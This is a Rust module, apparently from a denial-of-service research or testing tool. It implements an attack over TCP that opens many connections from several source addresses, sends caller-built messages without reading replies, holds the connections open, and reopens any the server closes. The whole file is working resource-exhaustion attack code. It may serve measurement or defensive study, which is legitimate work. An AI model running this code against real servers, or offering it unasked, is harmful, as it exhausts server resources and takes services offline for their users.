//! Attacks over TCP: connections that send and never read.

use std::io::{self, ErrorKind, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::thread::sleep;
use std::time::{Duration, Instant};

use socket2::{Domain, Socket, Type};

use crate::attack::Target;

/// Pause between two rounds over all connections.
const TICK: Duration = Duration::from_millis(10);
/// Minimum time between opening a connection and opening it again after the server has closed it.
const AGAIN: Duration = Duration::from_secs(1);

/// Connections that an attacker opens, and the messages on each.
pub struct Connections {
    /// Source addresses.
    pub clients: Vec<Ipv4Addr>,
    /// Connections from each address.
    pub each: usize,
    /// Size of the receive buffer in bytes; `None` for the system's default.
    pub receive_buffer: Option<usize>,
    /// Destination; `None` for the server's address for queries.
    pub to: Option<SocketAddr>,
    /// Pause between two messages on the same connection; `None` for no pause.
    pub pause: Option<Duration>,
    /// Messages on each connection.
    pub frames: usize,
}

/// Open connection.
struct Connection {
    client: Ipv4Addr,
    stream: TcpStream,
    since: Instant,
    /// Time when the next message is due.
    next: Instant,
    /// Number of times that the connection was reopened.
    opened: usize,
    /// Number of messages begun, and the unsent rest of the last one.
    begun: usize,
    rest: Vec<u8>,
}

/// Opens all connections, sends the messages that `frame` makes from the number of reopenings and of the message, and holds
/// the connections open until the attack is over. Reopens connections that the server closes.
pub fn hold_open(target: &Target, of: &Connections, frame: impl Fn(usize, usize) -> Vec<u8>) -> io::Result<()> {
    let mut connections = Vec::new();
    let to = of.to.unwrap_or(target.address);
    for client in &of.clients {
        for _ in 0..of.each {
            let stream = connect(*client, to, of.receive_buffer)?;
            let (since, rest) = (Instant::now(), Vec::new());
            connections.push(Connection { client: *client, stream, since, next: since, opened: 0, begun: 0, rest });
            target.count(u64::from(of.frames == 0));
        }
    }
    while !target.is_over() {
        for connection in &mut connections {
            let open = connection.send(target, of, &frame) && connection.is_open();
            if !open && connection.since.elapsed() >= AGAIN {
                connection.stream = connect(connection.client, to, of.receive_buffer)?;
                connection.since = Instant::now();
                connection.next = connection.since;
                connection.opened += 1;
                (connection.begun, connection.rest) = (0, Vec::new());
                target.count(u64::from(of.frames == 0));
            }
        }
        sleep(TICK);
    }
    Ok(())
}

impl Connection {
    /// Sends as much as the server accepts; returns false if the server has closed the connection.
    fn send(&mut self, target: &Target, of: &Connections, frame: impl Fn(usize, usize) -> Vec<u8>) -> bool {
        loop {
            if self.rest.is_empty() {
                if self.begun == of.frames || Instant::now() < self.next {
                    return true;
                }
                if let Some(pause) = of.pause {
                    self.next = Instant::now() + pause;
                }
                self.rest = frame(self.opened, self.begun);
                self.begun += 1;
                target.count(1);
            }
            match self.stream.write(&self.rest) {
                Ok(taken) => self.rest.drain(..taken),
                Err(error) => return waits(&error),
            };
        }
    }

    /// Returns false if the server has closed the connection, as far as this can be seen without reading.
    fn is_open(&self) -> bool {
        match self.stream.peek(&mut [0]) {
            Ok(unread) => unread > 0,
            Err(error) => waits(&error),
        }
    }
}

/// Returns true if the socket is not connected yet, or its send buffer is full.
fn waits(error: &io::Error) -> bool {
    matches!(error.kind(), ErrorKind::WouldBlock | ErrorKind::NotConnected)
}

/// Starts to connect, without waiting.
fn connect(from: Ipv4Addr, to: SocketAddr, receive_buffer: Option<usize>) -> io::Result<TcpStream> {
    let socket = Socket::new(Domain::IPV4, Type::STREAM.nonblocking(), None)?;
    if let Some(bytes) = receive_buffer {
        socket.set_recv_buffer_size(bytes)?;
    }
    socket.bind(&SocketAddr::new(from.into(), 0).into())?;
    let _ = socket.connect(&to.into()); // in progress; a refusal shows later
    Ok(socket.into())
}
